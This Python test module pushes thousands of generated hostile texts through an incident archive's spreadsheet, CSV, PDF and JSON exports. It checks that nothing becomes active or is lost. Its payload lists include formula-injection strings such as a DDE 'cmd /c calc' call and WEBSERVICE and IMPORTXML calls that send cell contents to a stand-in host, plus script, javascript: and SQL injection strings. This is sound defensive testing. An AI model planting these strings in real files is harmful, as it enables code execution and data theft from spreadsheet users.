"""``python -m tests.faults.payloads [--count N] [--seed N]``: texts that other programs would run, hide or choke on.

As many as asked (5,000 by default), each a title, a description and a source's words in one archive, through every
format, in both languages, and back through openpyxl, LibreOffice, csv, JSON, poppler and PDFium: none active, none
lost, none that stalls. Exit status 1 if any promise was broken.
"""

from __future__ import annotations

import csv
import io
import json
import random
import re
import shutil
import subprocess
import sys
import tempfile
import zipfile
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import click
import openpyxl
import pikepdf
import pypdfium2

from db.archive import Archive
from db.model.identity import derived_id
from db.model.parts import Quantity
from db.model.records import Figure, Incident, Record
from db.model.types import Text
from db.opening import create
from exports.deliver import export
from tests.keeping import keep

STARTS = ("", "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "'=", '"=', "=-", "==", "\ufeff=")
CALLS = (
    "cmd|'/c calc'!A1", 'HYPERLINK("http://x.example","y")', 'WEBSERVICE("http://x.example/"&A1)', "1+1",
    "SUM(1+1)*cmd", 'DDE("cmd";"/c calc")', 'IMPORTXML(CONCAT("http://x.example/",A1),"//a")', "[book.xlsx]Sheet!A1",
)  # fmt: skip
MARKUP = (
    "<b>bold</b>", "&amp;", "&#x3D;1+1", "]]>", "<!--", "<script>alert(1)</script>", "<?xml?>", "<font size=90>",
    "{{x}}", "${y}", "%s %(n)d", "\\input{x}", ") Tj ET", "endstream endobj", "%%EOF", "(((", "\\", "_x0041_",
    "_x000D_", "[U+0041]", "#adm1+code", "javascript:alert(1)", "<a href='http://x.example'>",
    "'; DROP TABLE record; --", '"quoted", and',
)  # fmt: skip
SIGNS = (
    *map(chr, (*range(32), *range(127, 160))),
    *"\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069",
    "\ud83d", "\udfff", "\ufffe", "\uffff", "\u0300" * 40, "👨\u200d👩\u200d👧", "😀𝔸", "\U0001f1f8\U0001f1fe", "𐏿",
    "\ue000", "\u2028", "\r\n", "\n\n", "\u00a0", "\u00ad", "\u200b", "إِدْلِب", "ﷺ", "لا", "٣٠", "۳۰", "1,260", "00123",
    "1e999", "NaN", "TRUE", "#REF!",
)  # fmt: skip

ENORMOUS = 1_000
"""Every so manieth payload holds a word of 200,000 letters."""

_WORDS = ("safe", "killed", "قصف", "market", "سوق")
_OUR_LINK = 'HYPERLINK("#'
_UNHOLDABLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
"""What XML 1.0 has no way to say."""


def payload(number: int, seed: int = 0) -> str:
    """The text of this number; it ends in a mark by which it is found again."""
    chance = random.Random(f"{seed}/{number}")
    pieces = [chance.choice(STARTS), chance.choice(CALLS) if chance.random() < 0.5 else chance.choice(_WORDS)]
    for _ in range(chance.randrange(1, 5)):
        pieces += [chance.choice(chance.choice((MARKUP, SIGNS, SIGNS, _WORDS))), chance.choice(("", " "))]
    if number % ENORMOUS == ENORMOUS // 2:
        pieces.append(chance.choice("wمل") * 200_000)
    return f"{''.join(pieces)} {mark(number)}"


def mark(number: int) -> str:
    """Letters only, that no line is broken in and nothing else holds."""
    return "zq" + "".join(chr(ord("a") + int(digit)) for digit in f"{number:05}") + "qz"


def fill(archive: Archive, count: int, seed: int = 0) -> None:
    """So many incidents, each with a figure, that say nothing but payloads."""
    keep(archive, _records(count, seed), batch="payloads")


def _records(count: int, seed: int) -> Iterator[Record]:
    stamp = {"state": "entered", "created": "2031-01-01T00:00:00.000Z", "changed": "2031-01-01T00:00:00.000Z"}
    for number in range(count):
        text = Text().read(payload(number, seed))
        event = derived_id("payload", str(number))
        yield Incident(
            id=event, code=f"INC-2031-{number:07}", title=text, description=text, confidentiality="clear",
            event_type="explosions_remote_violence", date="2030-01-01", **stamp,
        )  # fmt: skip
        yield Figure(
            id=derived_id("payload figure", str(number)), code=f"FIG-2031-{number:07}", subject=event, measure="killed",
            quantities=(Quantity(value=1, verbatim=text),), **stamp,
        )  # fmt: skip


# --- what is promised -------------------------------------------------------------------------------------------------


def broken(folder: Path, count: int, seed: int, language: str) -> Iterator[str]:
    """Every broken promise of the files in this folder, in words."""
    told = {f"INC-2031-{number:07}": Text().read(payload(number, seed)) for number in range(count)}
    for name, check in _CHECKS.items():
        path = folder / f"{language}-{name}"
        yield from (f"{path.name}: {fault}" for fault in check(path, told))


def _workbook(path: Path, told: dict[str, str]) -> Iterator[str]:
    with zipfile.ZipFile(path) as parts:
        for part in parts.namelist():
            if "external" in part or "vba" in part:
                yield f"has {part}"
            # Charts name the cells that they draw in the same way.
            sheet = parts.read(part).decode("utf-8", "replace") if part.startswith("xl/worksheets/") else ""
            formulas = re.findall("<f>(.*?)</f>", sheet)
            yield from (f"formula {one[:40]}" for one in formulas if not one.startswith(_OUR_LINK))
    book = openpyxl.load_workbook(path, read_only=True)
    yield from _differing("openpyxl", _joined(list(book.worksheets[1].values)), told, _unread)
    if shutil.which("soffice"):
        with _by_libreoffice(path) as sheets:
            rows = csv.reader(io.StringIO(sheets[1].read_bytes().decode(), newline=""))
            found = _joined([[cell or None for cell in row] for row in rows])
            yield from _differing("LibreOffice", found, told, _held)


def _joined(rows: list[Any]) -> dict[str, str]:
    """The titles by the code in the first column; what a cell could not hold goes on in the rows below."""
    titles: dict[str, str] = {}
    for code, title, *_ in rows:
        if code and str(code).startswith("INC-"):
            titles[code] = titles.get(code, "") + (title or "")
    return titles


def _held(text: str) -> str:
    """What a workbook holds of a text."""
    return _UNHOLDABLE.sub("", text.replace("\r\n", "\n").replace("\r", "\n"))


def _unread(text: str) -> str:
    """The same for a reader that leaves Excel's own escape (_x005F_ for a _ that would begin one) as it stands."""
    return re.sub("_(?=x[0-9A-Fa-f]{4}_)", "_x005F_", _held(text))


def _differing(
    reader: str, found: dict[str, str], told: dict[str, str], expected: Callable[[str], str]
) -> Iterator[str]:
    for code, text in told.items():
        if found.get(code) != expected(text):
            yield f"{reader} reads {code} as {found.get(code, '')[:60]!r}, not {expected(text)[:60]!r}"


@contextmanager
def _by_libreoffice(path: Path) -> Iterator[list[Path]]:
    """The sheets as LibreOffice writes them as CSV, in their order."""
    with tempfile.TemporaryDirectory() as folder:
        every = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,false,false,false,false,-1"
        command = ["soffice", f"-env:UserInstallation=file://{folder}/profile", "--headless", "--convert-to", every]
        subprocess.run([*command, "--outdir", folder, str(path)], check=True, capture_output=True, timeout=600)
        names = openpyxl.load_workbook(path, read_only=True).sheetnames
        yield [Path(folder) / f"{path.stem}-{name}.csv" for name in names if not name.startswith("_")]


def _csv(path: Path, told: dict[str, str]) -> Iterator[str]:
    with zipfile.ZipFile(path) as parts:
        for part in parts.namelist():
            rows = list(csv.reader(io.StringIO(parts.read(part).decode("utf-8-sig"), newline="")))
            active = (cell for row in rows for cell in row if cell.startswith(tuple("=+@\t\r\n＝＋－＠")))
            yield from (f"{part}: {cell[:40]!r}" for cell in active)
            if part == "incidents.csv":
                found = {row[0]: row[1].removeprefix("'") for row in rows}
                yield from _differing("csv", found, told, lambda text: text.removeprefix("'"))


def _pdf(path: Path, told: dict[str, str]) -> Iterator[str]:
    with pikepdf.open(path) as document:
        names = {"/OpenAction", "/AA", "/JavaScript", "/AcroForm", "/EmbeddedFiles"} & set(document.Root.keys())
        yield from (f"has {name}" for name in names)
        for page in document.pages:
            yield from (f"has {note.get('/A')}" for note in page.get("/Annots", ()) if "/A" in note)
    marks = {mark(number) for number in range(len(told))}
    if shutil.which("pdftotext"):
        done = subprocess.run(["pdftotext", path, "-"], check=True, capture_output=True, timeout=600)
        yield from _unmarked("poppler", done.stdout.decode(), marks)
    with pypdfium2.PdfDocument(path) as pages:
        text = "\n".join(page.get_textpage().get_text_range(errors="replace") for page in pages)
    yield from _unmarked("PDFium", text, marks)


def _unmarked(reader: str, text: str, marks: set[str]) -> Iterator[str]:
    # Backwards too: within a text that reads from the right a reader may give a word's letters in that order.
    found = set(re.findall("zq[a-j]{5}qz", text)) | {one[::-1] for one in re.findall("zq[a-j]{5}qz", text[::-1])}
    yield from (f"{reader} finds no {one}" for one in sorted(marks - found)[:20])


def _geojson(path: Path, told: dict[str, str]) -> Iterator[str]:
    plain = json.loads(path.read_text(encoding="utf-8"))
    found = {feature["id"]: feature["properties"]["title"] for feature in plain["features"]}
    yield from _differing("JSON", found, told, str)


def _records_format(path: Path, told: dict[str, str]) -> Iterator[str]:
    lines: Iterable[Any] = map(json.loads, path.read_text(encoding="utf-8").strip("\n").split("\n"))
    found = {line["code"]: line["title"] for line in lines if line["kind"] == "incident"}
    yield from _differing("JSON", found, told, str)


_CHECKS = {
    "out.xlsx": _workbook,
    "out.csv.zip": _csv,
    "out.pdf": _pdf,
    "out.geojson": _geojson,
    "out.jsonl": _records_format,
}


def run(folder: Path, count: int, seed: int) -> list[str]:
    """Make the archive and the files, and look for broken promises."""
    faults: list[str] = []
    with create(folder / "payloads.sanad") as archive:
        fill(archive, count, seed)
        for language in ("en", "ar"):
            for name in _CHECKS:
                # A file for the public is read and searched before it is there; looked at below is that of the team.
                for profile in ("public", "internal"):
                    export(archive, folder / f"{language}-{name}", profile=profile, language=language)
            faults += broken(folder, count, seed, language)
    return faults


@click.command()
@click.option("--count", default=5_000, show_default=True)
@click.option("--seed", default=0, show_default=True)
def main(count: int, seed: int) -> None:
    """Send COUNT payloads through every format."""
    with tempfile.TemporaryDirectory(prefix="sanad-payloads-") as folder:
        faults = run(Path(folder), count, seed)
    for fault in faults[:50]:
        click.echo(fault)
    click.echo(f"{count:,} payloads, {len(faults):,} broken promises")
    sys.exit(1 if faults else 0)


if __name__ == "__main__":
    main()
